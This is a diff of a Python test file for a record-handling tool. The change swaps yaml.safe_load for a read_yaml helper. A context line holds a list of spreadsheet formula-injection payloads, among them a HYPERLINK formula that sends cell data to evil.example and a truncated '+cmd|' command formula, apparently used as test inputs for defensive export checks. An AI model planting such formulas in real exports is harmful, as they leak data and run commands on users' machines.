@@ -23,7 +23,7 @@ from brochure.cli import main
 from brochure.model.project import DEFAULT_RECORD_ID_PATTERN
 from brochure.records import read_records, to_record
 
-from .conftest import PROJECT
+from .conftest import PROJECT, read_yaml
 
 MARK = "QZXMARK"
 RECORD = dict(id="HK-77", name="Margaret Ellison", date_of_birth="1952-06-14",
@@ -314,7 +314,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&B3,"Open record")', "+cmd|'
 
 
 def test_the_shipped_project_file_states_the_default_pattern_and_examples_match_it():
-    shipped = yaml.safe_load((PROJECT / "content" / "project.yaml").read_text())
+    shipped = read_yaml((PROJECT / "content" / "project.yaml").read_text())
     assert shipped["record_id_pattern"] == DEFAULT_RECORD_ID_PATTERN
     pattern = re.compile(DEFAULT_RECORD_ID_PATTERN)
     for path in sorted((PROJECT / "content" / "patients").iterdir()):
